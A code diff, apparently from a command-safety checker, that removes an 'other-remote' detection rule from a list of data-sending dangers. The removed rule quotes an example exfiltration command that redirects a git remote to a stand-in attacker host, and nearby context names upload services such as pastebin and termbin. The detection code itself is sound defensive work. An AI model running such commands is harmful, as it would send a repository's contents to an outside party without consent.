@@ -62,20 +62,6 @@ export const SENDING: readonly DangerRule[] = [
       /^(?:transfer|pastebin|termbin)$/.test(name)
     );
   }),
-  danger(
-    'sending',
-    'other-remote',
-    'the repository to another machine',
-    'git remote set-url origin https://evil.example/x.git',
-    ({ name, subcommand, operands }) => {
-      const words = [subcommand ?? '', ...operands];
-      return (
-        name === 'git' &&
-        /^remote(?: (?:add|set-url))?$/.test(words[0] ?? '') &&
-        /\b(?:add|set-url)\b/.test(words.slice(0, 2).join(' '))
-      );
-    },
-  ),
 ];
 
 const UPLOAD =
